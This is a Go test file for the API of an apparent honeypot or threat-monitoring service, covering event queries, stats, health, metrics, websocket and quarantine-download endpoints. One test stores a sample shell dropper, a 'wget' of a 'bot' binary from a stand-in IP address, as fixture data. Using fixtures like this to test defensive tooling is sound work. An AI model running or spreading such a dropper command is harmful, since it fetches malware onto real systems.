/*************************************************************************
 * Copyright 2026 Cyber Group 20. All rights reserved.
 * Contact: <rootxtrem3@users.noreply.github.com>
 *
 * This software may be modified and distributed under the terms of the
 * BSD 2-clause license. See the LICENSE file for details.
 **************************************************************************/

package api

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	json "github.com/goccy/go-json"
	"github.com/gorilla/websocket"

	"github.com/rootxtrem3/Cyber-Group-20/capture"
	"github.com/rootxtrem3/Cyber-Group-20/hub"
	"github.com/rootxtrem3/Cyber-Group-20/log"
	"github.com/rootxtrem3/Cyber-Group-20/quarantine"
	"github.com/rootxtrem3/Cyber-Group-20/store"
)

type testEnv struct {
	st      *store.Store
	quar    *quarantine.Store
	hb      *hub.Hub
	dropped atomic.Uint64
	base    string
}

func startAPI(t *testing.T) *testEnv {
	t.Helper()
	lgr := log.NewDiscardLogger()
	dir := t.TempDir()
	st, err := store.Open(filepath.Join(dir, `events.db`), lgr)
	if err != nil {
		t.Fatal(err)
	}
	audit, err := store.OpenAuditLog(filepath.Join(dir, `events.jsonl`), lgr)
	if err != nil {
		t.Fatal(err)
	}
	quar, err := quarantine.Open(filepath.Join(dir, `quarantine`), lgr)
	if err != nil {
		t.Fatal(err)
	}
	env := &testEnv{
		st:   st,
		quar: quar,
		hb:   hub.New(8, nil, lgr),
	}
	srv := New(st, audit, quar, env.hb, NewMetrics(), Counters{
		Published: func() uint64 { return 100 },
		Dropped:   func() uint64 { return env.dropped.Load() },
		Sessions:  func() int64 { return 2 },
	}, lgr)
	lst, err := net.Listen(`tcp`, `127.0.0.1:0`)
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(lst)
	t.Cleanup(func() {
		ctx, cf := context.WithTimeout(context.Background(), time.Second)
		srv.Shutdown(ctx)
		cf()
		env.hb.Close()
		quar.Close()
		audit.Close()
		st.Close()
	})
	env.base = `http://` + lst.Addr().String()
	return env
}

func seedEvents(t *testing.T, st *store.Store) {
	t.Helper()
	now := time.Now().UTC()
	for i, svc := range []capture.Service{
		capture.ServiceSSH, capture.ServiceSSH, capture.ServiceHTTP,
	} {
		ev := &capture.CanonicalEvent{
			EventID:    uint64(i + 1),
			Timestamp:  now.Add(time.Duration(i) * time.Second),
			Service:    svc,
			EventType:  capture.EventAuthAttempt,
			SourceIP:   net.ParseIP(`203.0.113.7`),
			SourcePort: 40000 + i,
			RiskScore:  30,
			RiskLevel:  capture.RiskLow,
		}
		if err := st.AddEvent(ev); err != nil {
			t.Fatal(err)
		}
	}
}

func getJSON(t *testing.T, url string, v interface{}) int {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if v != nil {
		if err = json.Unmarshal(b, v); err != nil {
			t.Fatalf("bad body %q: %v", b, err)
		}
	}
	return resp.StatusCode
}

func TestEventsQuery(t *testing.T) {
	env := startAPI(t)
	seedEvents(t, env.st)

	var er struct {
		Total  int64                     `json:"total"`
		Count  int                       `json:"count"`
		Events []*capture.CanonicalEvent `json:"events"`
	}
	if code := getJSON(t, env.base+`/events?service=ssh&limit=1`, &er); code != http.StatusOK {
		t.Fatal("status", code)
	}
	if er.Total != 2 || er.Count != 1 {
		t.Fatal("total/count", er.Total, er.Count)
	}
	// newest first
	if er.Events[0].EventID != 2 {
		t.Fatal("order", er.Events[0].EventID)
	}

	if code := getJSON(t, env.base+`/events?limit=bogus`, nil); code != http.StatusBadRequest {
		t.Fatal("status", code)
	}
	if code := getJSON(t, env.base+`/events?from=notatime`, nil); code != http.StatusBadRequest {
		t.Fatal("status", code)
	}

	// empty result set is [] not null
	resp, err := http.Get(env.base + `/events?service=mqtt`)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), `"events":[]`) {
		t.Fatalf("empty page %q", body)
	}
}

func TestMethodNotAllowed(t *testing.T) {
	env := startAPI(t)
	resp, err := http.Post(env.base+`/events`, `application/json`, strings.NewReader(`{}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatal("status", resp.StatusCode)
	}
}

func TestCapturesAndDownload(t *testing.T) {
	env := startAPI(t)
	payload := []byte("#!/bin/sh\nwget http://198.51.100.9/bot\n")
	fc, err := env.quar.Ingest(bytes.NewReader(payload), `dropper.sh`, `text/x-sh`, 1<<20)
	if err != nil {
		t.Fatal(err)
	}

	var lr struct {
		Count    int                   `json:"count"`
		Captures []capture.FileCapture `json:"captures"`
	}
	if code := getJSON(t, env.base+`/captures`, &lr); code != http.StatusOK {
		t.Fatal("status", code)
	}
	if lr.Count != 1 || lr.Captures[0].SHA256 != fc.SHA256 {
		t.Fatal("listing", lr)
	}

	resp, err := http.Get(env.base + `/captures/` + fc.SHA256 + `/download`)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatal("status", resp.StatusCode)
	}
	if ct := resp.Header.Get(`Content-Type`); ct != `application/octet-stream` {
		t.Fatal("content type", ct)
	}
	if !bytes.Equal(body, payload) {
		t.Fatal("download bytes differ")
	}

	if code := getJSON(t, env.base+`/captures/`+strings.Repeat(`0`, 64)+`/download`, nil); code != http.StatusNotFound {
		t.Fatal("status", code)
	}
}

func TestStatsEndpoint(t *testing.T) {
	env := startAPI(t)
	seedEvents(t, env.st)
	var st store.Stats
	if code := getJSON(t, env.base+`/stats`, &st); code != http.StatusOK {
		t.Fatal("status", code)
	}
	if st.TotalEvents != 3 || st.EventsByService[`ssh`] != 2 {
		t.Fatal("aggregates", st.TotalEvents, st.EventsByService)
	}
	if st.UniqueSources24h != 1 {
		t.Fatal("unique sources", st.UniqueSources24h)
	}
	if len(st.TopSources) != 1 || st.TopSources[0].SourceIP != `203.0.113.7` {
		t.Fatal("top sources", st.TopSources)
	}
}

func TestHealthDegradesOnDrops(t *testing.T) {
	env := startAPI(t)
	var hr healthResponse
	if code := getJSON(t, env.base+`/health`, &hr); code != http.StatusOK {
		t.Fatal("status", code)
	}
	if hr.Status != `ok` || !hr.StoreOK || !hr.AuditOK {
		t.Fatal("health", hr)
	}
	if hr.EventsTotal != 100 || hr.SessionsActive != 2 {
		t.Fatal("counters", hr.EventsTotal, hr.SessionsActive)
	}

	env.dropped.Add(5)
	if code := getJSON(t, env.base+`/health`, &hr); code != http.StatusOK {
		t.Fatal("status", code)
	}
	if hr.Status != `degraded` || hr.EventsDropped != 5 {
		t.Fatal("health after drops", hr)
	}
}

func TestMetricsEndpoint(t *testing.T) {
	mtr := NewMetrics()
	mtr.IncEvent(`ssh`)
	mtr.IncEvent(`ssh`)
	mtr.RegisterSubscriberGauge(func() int { return 3 })
	mtr.RegisterSinkDrops(`store`, func() uint64 { return 7 })
	mtr.ObserveStoreWrite(2 * time.Millisecond)

	srv := http.Server{Handler: mtr.Handler()}
	lst, err := net.Listen(`tcp`, `127.0.0.1:0`)
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(lst)
	defer srv.Close()

	resp, err := http.Get(`http://` + lst.Addr().String() + `/`)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, want := range []string{
		`threatview_events_total{service="ssh"} 2`,
		`threatview_subscribers 3`,
		`threatview_sink_drops_total{sink="store"} 7`,
		`threatview_store_write_seconds_count 1`,
	} {
		if !strings.Contains(string(body), want) {
			t.Fatalf("missing %q in exposition", want)
		}
	}
}

func TestWSEndpointWired(t *testing.T) {
	env := startAPI(t)
	wsURL := `ws` + strings.TrimPrefix(env.base, `http`) + `/ws/events`
	conn, _, err := websocket.DefaultDialer.Dial(wsURL, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	var msg struct {
		Type string `json:"type"`
	}
	if err = conn.ReadJSON(&msg); err != nil {
		t.Fatal(err)
	}
	if msg.Type != `welcome` {
		t.Fatal("first message", msg.Type)
	}
}
